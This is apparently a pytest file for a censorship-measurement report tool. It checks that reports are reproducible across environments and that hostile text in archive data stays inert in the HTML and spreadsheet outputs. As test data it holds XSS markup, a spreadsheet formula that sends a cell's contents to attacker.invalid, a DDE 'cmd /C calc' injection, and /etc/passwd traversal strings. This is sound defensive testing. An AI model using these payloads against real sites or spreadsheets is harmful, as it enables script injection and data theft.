"""A small archive full of hostile text: reported twice, in unlike circumstances."""

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import zlib
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from bs4 import BeautifulSoup

from analysis.reference.networks import DOMESTIC
from analysis.worlds.writing import write_world
from tests.archives import contents, put_lines, read_csv
from tests.conftest import Command

ROOT = Path(__file__).resolve().parents[1]
LISTED = ("blocked", "likely_blocked")
#: A change of an indicator may be negative; a number runs nothing.
_NUMBER = re.compile(r"-\d+(\.\d+)?")
#: A spreadsheet takes a cell for a formula that begins so.
_RUNS = ("=", "+", "-", "@", "\t", "\r")


MARKUP = '"><img src=x onerror=alert(1)></script><script>alert(2)</script>'
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
HOSTILE = {
    "report_id": f"+1{MARKUP}",
    "probe_network_name": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARKUP}",
    "software_name": MARKUP,
    "software_version": "../../../../etc/passwd",
}
LISTED_NAME = f"{FORMULA} {MARKUP}"
INPUTS = (
    f"http://{'a' * 10_000}.org/",
    FORMULA,
    MARKUP,
    "javascript:alert(3)",
    "../../etc/passwd",
    "file:///etc/passwd",
    "http://[::1",
    "http://xn--a.org/\u202egnp",
    "-1+1|cmd",
    "",
)


def _lines(archive: Path) -> Iterator[dict[str, Any]]:
    """The measurements of an archive, forged lines and garbage apart."""
    for path in sorted(archive.rglob("*.jsonl.gz")):
        for line in zlib.decompressobj(31).decompress(path.read_bytes()).split(b"\n"):
            if line.startswith(b'{"annotations"') and line.endswith(b"}"):
                found = json.loads(line)
                if found["test_keys"] and found["input"]:
                    yield found


def _spoil(measurement: dict[str, Any], asn: int, path: str) -> bytes:
    """The measurement as somebody hostile would have sent it from a network of their own."""
    title = f"<title>{FORMULA}{MARKUP}{'t' * 10_000}</title>"
    text = json.dumps(
        measurement
        | HOSTILE
        | {
            "report_id": f"{measurement['report_id']}{asn}{HOSTILE['report_id']}",
            "probe_asn": f"AS{asn}",
            "input": measurement["input"] + path,
        }
    )
    return re.sub(r"<title>.*?</title>", lambda _: json.dumps(title)[1:-1], text).encode()


def _hostile_lines(archive: Path, asn: int) -> list[bytes]:
    """One network's measurements again, as if from two others, and inputs that are no URLs."""
    own = [found for found in _lines(archive) if found["probe_asn"] == f"AS{asn}"]
    lines = [_spoil(found, 64600, f"?{MARKUP}") for found in own]
    lines += [_spoil(found, 64601, f"/../..{FORMULA}") for found in own]
    return lines + [json.dumps(own[0] | {"input": text}).encode() for text in INPUTS]


@pytest.fixture(scope="module")
def hostile_words(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """The command line's words for an archive of two weeks in which text is hostile."""
    world = tmp_path_factory.mktemp("hostile") / "world"
    write_world(
        world,
        probe_cc="QZ",
        since="2024-02-01",
        until="2024-02-15",
        seed=7,
        network_count=6,
        name_count=24,
    )
    networks = world / "reference" / "networks.csv"
    roles = read_csv(world / "truth" / "networks.csv").set_index("role")["probe_asn"]
    lines = _hostile_lines(world / "archive", int(roles["sinkhole"][2:]))
    put_lines(world / "archive", lines, "QZ", "n9.0")
    with networks.open("a", encoding="utf-8", newline="") as file:
        csv.writer(file).writerow((64600, LISTED_NAME, FORMULA, "isp", "test"))
    test_list = world / "reference" / "test-lists" / "qz.csv"
    listed = read_csv(test_list)
    listed["category_description"] = f"{FORMULA}{MARKUP}"
    listed.to_csv(test_list, index=False)
    places = {
        "SOURCE": "archive",
        "TEST_LIST": "reference/test-lists",
        "NETWORKS": "reference/networks.csv",
        "FINGERPRINTS": "reference/fingerprints",
        "EVENTS": "reference/events.yml",
    }
    events = world / "reference" / "events.yml"
    text = events.read_text(encoding="utf-8")
    events.write_text(text.replace("Local elections", f"'{MARKUP}'"), encoding="utf-8")
    return [
        "PROBE_CC=QZ",
        "SINCE=2024-02-01",
        "UNTIL=2024-02-15",
        *(f"{name}={world / place}" for name, place in places.items()),
    ]


def _run(program: Sequence[str], words: Sequence[str], cwd: Path, **environment: str) -> None:
    """A command, in an environment."""
    done = subprocess.run(
        [sys.executable, *program, *words],
        cwd=cwd,
        env=os.environ | {"PYTHONPATH": str(ROOT)} | environment,
        text=True,
        capture_output=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr


def _interfering_user(home: Path) -> dict[str, str]:
    """The environment of somebody whose kernels, start-up files and drawing style are their own."""
    kernel = home / "jupyter" / "kernels" / "python3" / "kernel.json"
    start = home / "ipython" / "profile_default" / "startup" / "00.py"
    style = home / "matplotlibrc"
    for file in (kernel, start):
        file.parent.mkdir(parents=True)
    kernel.write_text('{"argv": ["/bin/false"], "display_name": "no"}')
    start.write_text("raise SystemExit('the user interferes')")
    style.write_text("axes.facecolor: red\n")
    return {
        "HOME": str(home),
        "JUPYTER_PATH": str(home / "jupyter"),
        "IPYTHONDIR": str(home / "ipython"),
        "MATPLOTLIBRC": str(style),
    }


#: The command line with one threshold to move, and notebooks that move it.
_ONE_THRESHOLD = """
from pathlib import Path
from analysis.commands import cli, reporting
from analysis.study.confirmation import ENDS
for name in ENDS.keys() - {"floor_sessions"}:
    del ENDS[name]
reporting.NOTEBOOKS = Path("notebooks")
cli.main()
"""


def _copy_notebooks(folder: Path) -> None:
    """Of the page of what the list depends on, a copy that judges by it."""
    shutil.copytree(ROOT / "notebooks", folder)
    page = folder / "7-sensitivity.ipynb"
    text = page.read_text(encoding="utf-8")
    one = "{'floor_sessions': ENDS['floor_sessions']}"
    page.write_text(text.replace("GRID if sweep_all else ENDS", one), encoding="utf-8")


@pytest.fixture(scope="module")
def twins(tmp_path_factory: pytest.TempPathFactory, hostile_words: list[str]) -> tuple[Path, Path]:
    """Two reports on the hostile archive, each from an empty store, in unlike circumstances. The
    second is made with the page of what its list depends on, in the place of an earlier one."""
    folder = tmp_path_factory.mktemp("twins")
    one, other = (
        [*hostile_words, f"STORE={folder / name / 'store'}", f"OUT={folder / name / 'report'}"]
        for name in ("one", "other")
    )
    _run(
        ["-m", "analysis"],
        ["report", *one, "JOBS=1"],
        ROOT,
        TZ="UTC",
        LC_ALL="C",
        PYTHONHASHSEED="0",
    )
    report = folder / "other" / "report"
    report.mkdir(parents=True)
    (report / "index.html").touch()
    (report / "run.json").write_text('{"files": ["index.html"], "tables": {}, "findings": {}}')
    home = tmp_path_factory.mktemp("home")
    there = {
        "TZ": "Pacific/Kiritimati",
        "LC_ALL": "tr_TR.UTF-8",
        "PYTHONHASHSEED": "4242",
        **_interfering_user(home),
    }
    _copy_notebooks(home / "notebooks")
    _run(["-c", _ONE_THRESHOLD], ["sensitivity", *other, "JOBS=2"], home, **there)
    return folder / "one" / "report", report


#: Where other pages, ``run.json`` and ``datapackage.json`` name the page of what the list depends
#: on, or its tables, or count files.
_ITS_TABLES = rb"(?:rule_change|threshold_sweep)\.csv"
_NAMED = re.compile(
    rb"\s*<(li|dt)>\s*<a href=\"(?:7-sensitivity\.html|tables/%(tables)s)\">.*?</(li|dd)>"
    rb"|\s*\"(?:7-sensitivity[\w.-]*|tables/%(tables)s)\","
    rb"|\s*\"(?:%(tables)s|datapackage\.json)\": \{[^}]*\},"
    rb"|\n  \{\n(?:   [^\n]*\n)*?   \"path\": \"%(tables)s\",\n(?:   [^\n]*\n)*?  \},"
    rb"|\d+ more files" % {b"tables": _ITS_TABLES},
    re.DOTALL,
)


def test_two_runs_publish_the_same_bytes(twins: tuple[Path, Path]) -> None:
    """Whatever the number of processes, time zone, locale, hash seed, home, working folder, place
    of the report and the user's kernels, start-up files and style; but for the
    page that only the second was asked for, its tables, and where these are named."""
    one, other = (contents(report) for report in twins)
    assert _NAMED.search(other["index.html"])
    added = {name.rpartition("/")[2].partition(".")[0] for name in other.keys() - one.keys()}
    assert added == {"7-sensitivity", "rule_change", "threshold_sweep"}
    told, other_told = (
        {name: _NAMED.sub(b"", content) for name, content in files.items()}
        for files in (one, other)
    )
    others = [name for name in one if told[name] != other_told[name]]
    assert others == ["SHA256SUMS"]  # of the pages that name the other one
    assert {path.name for path in twins[1].parent.iterdir()} == {"report", "store"}


def test_what_the_list_depends_on_is_added_to_a_report_that_stands(
    hostile_words: list[str], command: Command, tmp_path: Path
) -> None:
    """Without one it says what to run."""
    status, _, said = command("sensitivity", *hostile_words, f"OUT={tmp_path / 'none'}")
    assert (status, "run 'make report' with the same parameters first" in said) == (2, True)


#: Where an attribute may lead besides other pages of the report.
_OUT = r"https://explorer\.ooni\.org/|https://creativecommons\.org/|data:(image/|text/csv;|,$)"


def _acting(html: str) -> list[str]:
    """The elements that would run or fetch something."""
    found = []
    for one in BeautifulSoup(html, "html.parser").find_all(True):
        leads = [str(one.get(name, "")) for name in ("href", "src", "xlink:href")]
        is_image = one.name == "img" and leads[1].startswith("data:image/")
        kinds = ("script", "iframe", "object", "embed", "base", "form", "img")
        runs = [n for n in one.attrs if n.startswith("on") or n in ("srcdoc", "formaction")]
        away = [to for to in leads if re.match(rf"\s*(?!{_OUT})[a-z]+:", to, re.IGNORECASE)]
        if runs or away or (one.name in kinds and not is_image):
            found.append(str(one)[:80])
    return found


def test_hostile_text_stays_text(twins: tuple[Path, Path]) -> None:
    """Names, titles and inputs of strangers reach tables and pages, and none of them is run by a
    browser or a spreadsheet."""
    report = twins[1]
    listed = _listed(read_csv(report / "tables" / "verdicts.csv"))
    assert set(listed["probe_asn"]) >= {"AS64600", "AS64601"}
    pages = {page: page.read_text(encoding="utf-8") for page in sorted(report.rglob("*.html"))}
    assert any("&lt;img src=x onerror=alert(1)&gt;" in text for text in pages.values())
    events = pages[report / "2-confirmation.html"]
    assert re.search(r'aria-label="[^"]* 3, 2024-02-\d\d, &[^"]*&lt;img src=x', events)
    ours = [
        path.read_text(encoding="utf-8") for path in (ROOT / "analysis/pages/page").glob("*.js")
    ]
    for page, text in pages.items():
        for script in ours:  # the policy allows these by their digests and nothing else
            text = text.replace(f"<script>{script}</script>", "")
        assert not _acting(text), page.name
    for path in sorted((report / "tables").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as lines:
            cells = [cell for row in csv.reader(lines) for cell in row if cell.startswith(_RUNS)]
        assert not [cell for cell in cells if not _NUMBER.fullmatch(cell)]
    sheet: Any = openpyxl.load_workbook(report / "tables" / "blocked_sites.xlsx").active
    boxes = [cell for row in sheet.iter_rows() for cell in row]
    assert any(LISTED_NAME in str(cell.value) for cell in boxes)
    assert {(cell.data_type, cell.hyperlink) for cell in boxes} <= {(kind, None) for kind in "snd"}
    assert not [cell for cell in boxes if str(cell.value or "").startswith(_RUNS)]


def _listed(table: pd.DataFrame) -> pd.DataFrame:
    return table[(table["period"] == "all") & table["state"].isin(LISTED)]


def test_a_look_lists_what_the_report_lists(
    twins: tuple[Path, Path], hostile_words: list[str], command: Command, tmp_path: Path
) -> None:
    """Of the same period, on access networks: no pair more, no pair less; and its state. Again it
    tells nothing, and changes nothing."""
    report = twins[0]
    places = [f"STORE={report.parent / 'store'}", f"OUT={tmp_path}", "REPORT_LANGUAGES=en,km"]
    words = [word for word in hostile_words if not word.startswith("EVENTS")]
    status, said, _ = command("watch", *words, *places)
    assert (status, said.partition(":")[0]) == (0, "first look")
    standing = read_csv(tmp_path / "tables" / "watch_standing.csv")
    shown = standing[standing["status"] != "suspicious"].rename(columns={"item": "domain"})
    networks, verdicts = (
        read_csv(report / "tables" / f"{n}.csv") for n in ("networks", "verdicts")
    )
    access = networks.loc[networks["kind"].isin(DOMESTIC), "probe_asn"]
    listed = _listed(verdicts)
    listed = listed[listed["probe_asn"].isin(access)]
    columns = ["domain", "probe_asn", "state", "chance"]
    expected = listed[columns].to_numpy().tolist()
    assert shown[columns].to_numpy().tolist() == expected != []
    page = (tmp_path / "watch.html").read_text(encoding="utf-8")
    assert ("Fictional country" in page, "sites/" in page) == (True, False)
    khmer = (tmp_path / "km" / "watch.html").read_text(encoding="utf-8")
    assert not re.search("POT-Creation-Date|Likely blocked|at least since|rows from|1 in ", khmer)
    before = contents(tmp_path)
    status, said, _ = command("watch", *words, *places)
    assert (status, said.splitlines()[0]) == (0, "nothing new since the last look")
    assert contents(tmp_path) == before
